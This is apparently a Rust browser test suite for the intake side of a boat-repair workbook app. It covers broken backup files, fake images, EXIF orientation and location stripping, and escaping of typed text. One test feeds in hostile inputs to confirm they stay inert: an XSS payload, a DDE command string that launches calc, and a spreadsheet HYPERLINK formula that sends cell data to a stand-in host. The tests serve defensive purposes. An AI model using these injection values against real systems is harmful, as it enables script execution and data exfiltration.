//! What comes in from outside: files, pictures, and whatever can be typed.
//!
//! Nothing that a person picks or types may take away what is there, run as a
//! program, or leave the phone unasked. What is wrong with a file is said in
//! words, and what is good in it is kept.

use std::time::{Duration, Instant};

use data_encoding::BASE64;
use quaywright_core::book::Book;
use quaywright_core::event::{About, Position};
use quaywright_core::exchange::{bundle, intake};
use quaywright_core::id::ItemId;
use serde_json::json;

use crate::ground::World;
use crate::hand::{CORNERS, Corners, Loose, book_of};
use crate::page::{Page, SOON};

const BOLTS: Loose = Loose { what: "Cover bolt", count: "12", size: "M8", side: "front", stowed: "tray" };

/// Returns a world whose workbook has one job with twelve bolts off, open at that job.
fn at_a_job() -> (World, Page) {
    let world = World::of_app();
    let page = world.open_workbook();
    page.open_job("Marsh Heron", "A. Finch", "No charge at sea", "Flat after a night at anchor");
    page.job("Marsh Heron", "Off-list");
    page.take_off(&BOLTS);
    (world, page)
}

fn book_in(backup: &[u8]) -> Book {
    book_of(&intake::take(backup).unwrap())
}

#[test]
fn foreign_and_broken_files_are_named_and_take_nothing_away() {
    let (elsewhere, page) = at_a_job();
    let good = elsewhere.backup(&page);
    drop(page);
    drop(elsewhere);

    let world = World::of_app();
    let page = world.open_workbook();
    page.open_job("Sea Otter", "C. Dunlin", "Leaking fitting", "Drips");
    let before = book_in(&world.backup(&page)).records();
    let newer = String::from_utf8(good.clone()).unwrap().replacen("\"v\":1", "\"v\":2", 1).into_bytes();
    let noise: Vec<u8> = (0_u32..4_096).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    for (name, bytes, words) in [
        ("empty.txt", Vec::new(), "this file is empty"),
        ("noise.bin", noise, "this is no file of Quaywright"),
        ("manual.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec(), "this PDF is made for reading"),
        ("picture.png", b"\x89PNG\r\n\x1a\n".to_vec(), "this is a picture or a film"),
        ("newer.txt", newer, "written by a newer Quaywright (form 2)"),
    ] {
        page.bring_back(world.lay_out(name, &bytes));
        page.said(&format!("Nothing was taken in: {words}"));
    }
    // Only that the backup above was made, and that it left, is new.
    assert_eq!(book_in(&world.backup(&page)).records(), before + 2);

    let line_ends: Vec<usize> = good.iter().enumerate().filter(|(_, byte)| **byte == b'\n').map(|(at, _)| at).collect();
    let cut = line_ends[3] + 40;
    page.bring_back(world.lay_out("cut.txt", &good[..cut]));
    page.said("3 entries and 0 photos are here now");
    page.wait_for_text("The end of the file is missing");
    page.tap_named("button", "Read");

    let mut flipped = good.clone();
    flipped[line_ends[0] + 60] ^= 1;
    page.bring_back(world.lay_out("flipped.txt", &flipped));
    page.said("entries and 0 photos are here now");
    page.wait_for_text("Line 2: ");
    page.tap_named("button", "Read");

    // What was there works on, and the whole file still comes in afterwards.
    page.bring_back(world.lay_out("good.txt", &good));
    page.said("entries and 0 photos are here now");
    page.place("Now");
    page.clock_shows("Sea Otter");
    page.switch_to("Marsh Heron");
    page.off_the_clock();
    let book = book_in(&world.backup(&page));
    assert_eq!((book.jobs.jobs().count(), book.faults.len()), (2, 0));
    page.assert_quiet();
}

#[test]
fn a_file_with_many_faults_is_told_in_a_few_lines() {
    let (elsewhere, page) = at_a_job();
    let mut good = elsewhere.backup(&page);
    drop(page);
    drop(elsewhere);
    for number in 0..30 {
        good.extend(format!("{{\"nothing\":{number}}}\n").into_bytes());
    }
    let world = World::of_app();
    let page = world.open_workbook();
    page.place("Hand over");
    page.bring_back(world.lay_out("foreign lines.txt", &good));
    page.said("entries and 0 photos are here now");
    page.wait_for_text("18 more entries of the file were not taken.");
    let lines: u32 = page.eval("document.querySelectorAll('.telling[role=status] p').length").unwrap();
    assert_eq!(lines, 13, "twelve faults one by one, and how many more");
    page.place("Jobs");
    page.wait_for_text("Marsh Heron");
}

#[test]
fn only_pictures_become_photos() {
    let (world, page) = at_a_job();
    let small = page.paint("png", 64, 48, CORNERS);
    let mut corrupt = page.paint("jpeg", 640, 480, CORNERS);
    corrupt[2..200].fill(0x41);
    let files = [
        world.lay_out("first.png", &small),
        world.lay_out("nothing.jpg", b""),
        world.lay_out("letter.jpg", b"Dear owner, the pump is back on."),
        world.lay_out("corrupt.jpg", &corrupt),
        world.lay_out("last.jpg", &page.paint("jpeg", 48, 64, CORNERS)),
    ];
    page.pick("Photo of Cover bolt", &files);
    for name in ["nothing.jpg", "letter.jpg", "corrupt.jpg"] {
        page.said(&format!("{name} cannot be opened as a picture here, so it was not added."));
    }
    let book = book_in(&world.backup(&page));
    let sizes: Vec<(u16, u16)> = book.evidence.photos().map(|it| (it.facts.width, it.facts.height)).collect();
    assert_eq!(sizes, [(64, 48), (48, 64)], "the good ones around the bad ones are kept");
}

/// 7 304 × 5 478 pixels are 40 megapixels.
#[test]
fn a_large_picture_becomes_a_small_one() {
    let (world, page) = at_a_job();
    for kind in ["png", "jpeg"] {
        let large = world.lay_out(&format!("large.{kind}"), &page.paint(kind, 7_304, 5_478, CORNERS));
        let begun = Instant::now();
        page.pick("Photo of Cover bolt", &[large]);
        page.wait_for("document.querySelector('.said')?.innerText.includes('Photo kept')", 6 * SOON);
        assert!(begun.elapsed() < 6 * SOON);
    }
    let taken = intake::take(&world.backup(&page)).unwrap();
    assert_eq!(taken.blobs.len(), 2);
    for (_, bytes) in &taken.blobs {
        assert!(bytes.len() < 400_000, "{} bytes", bytes.len());
        assert_eq!(page.corners(bytes), (CORNERS.map(str::to_owned), [1_600, 1_200]));
    }
    page.assert_quiet();
}

/// Exif 2.32, section 4.6.4 A, tag 0x0112: where the picture's row 0 and column 0 lie.
#[test]
fn every_orientation_ends_upright() {
    let (world, page) = at_a_job();
    let [a, b, c, d] = CORNERS;
    let upright: [Corners; 8] = [
        [a, b, c, d],
        [b, a, d, c],
        [d, c, b, a],
        [c, d, a, b],
        [a, c, b, d],
        [c, a, d, b],
        [d, b, c, a],
        [b, d, a, c],
    ];
    let plain = page.paint("jpeg", 320, 200, CORNERS);
    let files = [1, 2, 3, 4, 5, 6, 7, 8]
        .map(|orientation| world.lay_out(&format!("turned-{orientation}.jpg"), &with_exif(&plain, orientation, false)));
    page.pick("Photo of Cover bolt", &files);
    page.wait_for("document.querySelectorAll('.part.current figure').length === 8", 4 * SOON);
    let taken = intake::take(&world.backup(&page)).unwrap();
    let book = book_of(&taken);
    for ((photo, corners), orientation) in book.evidence.photos().zip(upright).zip(1..) {
        let (_, bytes) = taken.blobs.iter().find(|(id, _)| *id == photo.facts.blob).unwrap();
        let size = if orientation > 4 { [200, 320] } else { [320, 200] };
        assert_eq!(page.corners(bytes), (corners.map(str::to_owned), size), "orientation {orientation}");
        assert_eq!([u32::from(photo.facts.width), u32::from(photo.facts.height)], size);
        assert!(!holds(bytes, b"Exif"), "the attributes are left out");
    }
}

#[test]
fn a_place_is_kept_only_when_asked_and_never_told_to_the_owner() {
    let (world, page) = at_a_job();
    let file = world.lay_out("at-sea.jpg", &with_exif(&page.paint("jpeg", 320, 200, CORNERS), 1, true));
    page.photograph("Photo of Cover bolt", std::slice::from_ref(&file));
    page.place("Hand over");
    page.tap_words("Keep the place where a photo was taken");
    page.job("Marsh Heron", "Off-list");
    page.photograph("Photo of Cover bolt", &[file]);

    let taken = intake::take(&world.backup(&page)).unwrap();
    let positions: Vec<Option<Position>> = book_of(&taken).evidence.photos().map(|it| it.facts.position).collect();
    // 51°30'36" = 51.51°; 0°7'30" = 0.125°.
    assert_eq!(positions, [None, Some(Position { lat_e7: 515_100_000, lon_e7: 1_250_000 })]);
    assert!(taken.blobs.iter().all(|(_, bytes)| !holds(bytes, b"Exif")));

    page.hide_what_was_said();
    let summary = world.save_document(&page, "Make the work summary", "work on Marsh Heron");
    for trace in [&b"51.51"[..], b"515100000", b"0.125", b"1250000", b"Exif", BASE64.encode(b"Exif\0\0").as_bytes()] {
        assert!(!holds(&summary, trace), "the owner's page tells the place");
    }
}

#[test]
fn whatever_is_typed_stays_text() {
    let world = World::of_app();
    let page = world.open_workbook();
    let boat = "</script><img src=x onerror=alert(1)>";
    let owner = "=HYPERLINK(\"http://elsewhere.example/?\"&A1,\"click\")";
    let title = "مضخة المياه 🛶 \u{202e}gnirts";
    let long = "Grünspan & <b>rust</b> ".repeat(4_348).chars().take(100_000).collect::<String>();
    page.name_technician("+1+cmd|' /C calc'!A0", "@SUM(1)");
    page.open_job(boat, owner, title, "-2+3 is no formula");
    page.job(boat, "Story");
    page.write("Cause", &long);
    page.said("Cause kept");
    page.wait_for_text(title);
    page.reload().unwrap();
    page.wait_until_open();
    let kept = "document.querySelectorAll('.part.current textarea')[1].value.length";
    page.wait_for(&format!("{kept} === {}", long.trim().chars().count()), SOON);
    page.off_the_clock();

    page.place("Hand over");
    let file = world.save_document(&page, "Make the day's file", "day ");
    page.choose_labelled("What the file holds", "hours as a table (CSV)");
    let table = world.save_document(&page, "Make the day's file", "hours ");
    let summary = world.save_document(&page, "Make the work summary", "work on ");

    let mut reader = csv::Reader::from_reader(table.strip_prefix(b"\xef\xbb\xbf").unwrap());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[1], "'+1+cmd|' /C calc'!A0");
    assert_eq!((&row[2], &row[3], &row[4]), (boat, format!("'{owner}").as_str(), title));
    assert_eq!(&row[7], "'-2+3 is no formula");
    let book = book_of(&bundle::read_bundle(&file).unwrap().intake);
    let line = book.jobs.jobs().next().unwrap().lines[0];
    assert_eq!(book.jobs.line(line).unwrap().cause.as_str(), long.trim());

    for (name, bytes) in [("day.html", file), ("summary.html", summary)] {
        let path = world.lay_out(name, &bytes);
        let other = world.browser().blank();
        other.go(&format!("file://{}", path.display())).unwrap();
        other.wait_for_text(boat);
        other.wait_for_text("Grünspan & <b>rust</b>");
        assert!(other.eval::<bool>("!document.images.length && !document.querySelector('b')").unwrap());
        let asked = other.requests().unwrap();
        assert!(asked.iter().filter(|it| it.from == "page").all(|it| it.url.starts_with("file://")), "{asked:?}");
        other.assert_quiet();
    }
    page.assert_quiet();
}

#[test]
fn a_photo_says_what_the_technician_says_of_it() {
    let (world, page) = at_a_job();
    let picture = world.lay_out("small.jpg", &page.paint("jpeg", 64, 48, CORNERS));
    page.pick("Photo of Cover bolt", &[picture]);
    page.said("Photo kept");
    page.job("Marsh Heron", "Photos");
    page.wait_for("document.querySelector('.part.current figcaption').innerText === 'Cover bolt'", SOON);
    page.unfold("Say what it shows");
    page.write("What it shows", "Rust under the third bolt");
    page.said("Kept what it shows");
    page.wait_for("document.querySelector('.part.current figcaption').innerText === 'Rust under the third bolt'", SOON);
    let book = book_in(&world.backup(&page));
    let captions: Vec<&str> = book.evidence.photos().map(|it| it.facts.caption.as_str()).collect();
    assert_eq!(captions, ["Rust under the third bolt"]);
    page.assert_quiet();
}

#[test]
fn a_photo_that_was_wanted_when_the_page_died_is_asked_for_again() {
    let (mut world, page) = at_a_job();
    let file = world.lay_out("bolts.jpg", &page.paint("jpeg", 320, 200, CORNERS));
    let camera = |page: &Page| {
        // The picker opens and never comes back: the phone took the page's memory meanwhile.
        page.call("Page.setInterceptFileChooserDialog", json!({ "enabled": true })).unwrap();
        page.tap_named("button", "Photo of Cover bolt");
        wait_until_expected(page);
    };
    page.fill_labelled("What came off", "Gasket of the cov");
    camera(&page);
    world.kill_browser();
    world.start_browser();
    let page = world.open_workbook();
    page.wait_for_text("A photo of Cover bolt on Marsh Heron was wanted when the app closed.");
    // What was half typed a moment before was kept as well.
    let half = "[...document.querySelectorAll('input')].some(it => it.value === 'Gasket of the cov')";
    page.job("Marsh Heron", "Off-list");
    page.wait_for(half, SOON);
    page.photograph("Photo of Cover bolt on Marsh Heron", &[file]);
    page.wait_for("!document.body.innerText.includes('was wanted when the app closed')", SOON);
    let book = book_in(&world.backup(&page));
    let item = book.teardown.still_off(book.jobs.jobs().next().unwrap().id).next().unwrap().id;
    assert_eq!(book.evidence.photos().map(|it| it.about).collect::<Vec<_>>(), [About::Item(ItemId(item.0))]);

    page.job("Marsh Heron", "Off-list");
    camera(&page);
    page.reload().unwrap();
    page.wait_until_open();
    page.tap_named("button", "Not needed");
    page.wait_for("!document.body.innerText.includes('was wanted when the app closed')", SOON);
    std::thread::sleep(Duration::from_millis(500));
    page.reload().unwrap();
    page.wait_until_open();
    page.wait_for_text("Marsh Heron");
    assert!(!page.text().contains("was wanted when the app closed"));
}

/// Waits until what the photo is for lies in the database.
fn wait_until_expected(page: &Page) {
    let js = "new Promise((done, fail) => {
        const opening = indexedDB.open('quaywright');
        opening.onerror = () => fail(opening.error);
        opening.onsuccess = () => {
            const asked = opening.result.transaction(['drafts']).objectStore('drafts').getAllKeys();
            asked.onerror = () => fail(asked.error);
            asked.onsuccess = () => { opening.result.close(); done(asked.result.includes('expected-photo')); };
        };
    })";
    let deadline = Instant::now() + SOON;
    while !page.eval::<bool>(js).unwrap() {
        assert!(Instant::now() < deadline, "what the photo is for is not kept; {}", page.describe());
        std::thread::sleep(Duration::from_millis(30));
    }
}

fn holds(bytes: &[u8], what: &[u8]) -> bool {
    bytes.windows(what.len()).any(|window| window == what)
}

/// Returns a JPEG with an orientation, and perhaps a position, put in as a camera does:
/// an Exif segment right after the start of the image, a little-endian TIFF in it.
fn with_exif(jpeg: &[u8], orientation: u32, position: bool) -> Vec<u8> {
    let entry = |tag: u16, kind: u16, count: u32, value: u32| {
        [&tag.to_le_bytes()[..], &kind.to_le_bytes(), &count.to_le_bytes(), &value.to_le_bytes()].concat()
    };
    let list = |entries: &[Vec<u8>]| {
        let count = u16::try_from(entries.len()).unwrap();
        [&count.to_le_bytes()[..], &entries.concat(), &[0; 4]].concat()
    };
    // The first list of two entries ends at 38, the second of four at 92; two angles of three rationals follow.
    let mut tiff = b"II*\0\x08\0\0\0".to_vec();
    tiff.extend(list(&[entry(0x0112, 3, 1, orientation), entry(0x8825, 4, 1, 38)]));
    if position {
        let letter = |letter: u8| u32::from(letter);
        tiff.extend(list(&[
            entry(1, 2, 2, letter(b'N')),
            entry(2, 5, 3, 92),
            entry(3, 2, 2, letter(b'E')),
            entry(4, 5, 3, 116),
        ]));
        for part in [51_u32, 30, 36, 0, 7, 30] {
            tiff.extend([part.to_le_bytes(), 1_u32.to_le_bytes()].concat());
        }
    } else {
        tiff.extend(list(&[]));
    }
    let length = u16::try_from(tiff.len() + 8).unwrap();
    let (start, rest) = jpeg.split_at(2);
    [start, b"\xff\xe1", &length.to_be_bytes()[..], b"Exif\0\0", &tiff, rest].concat()
}
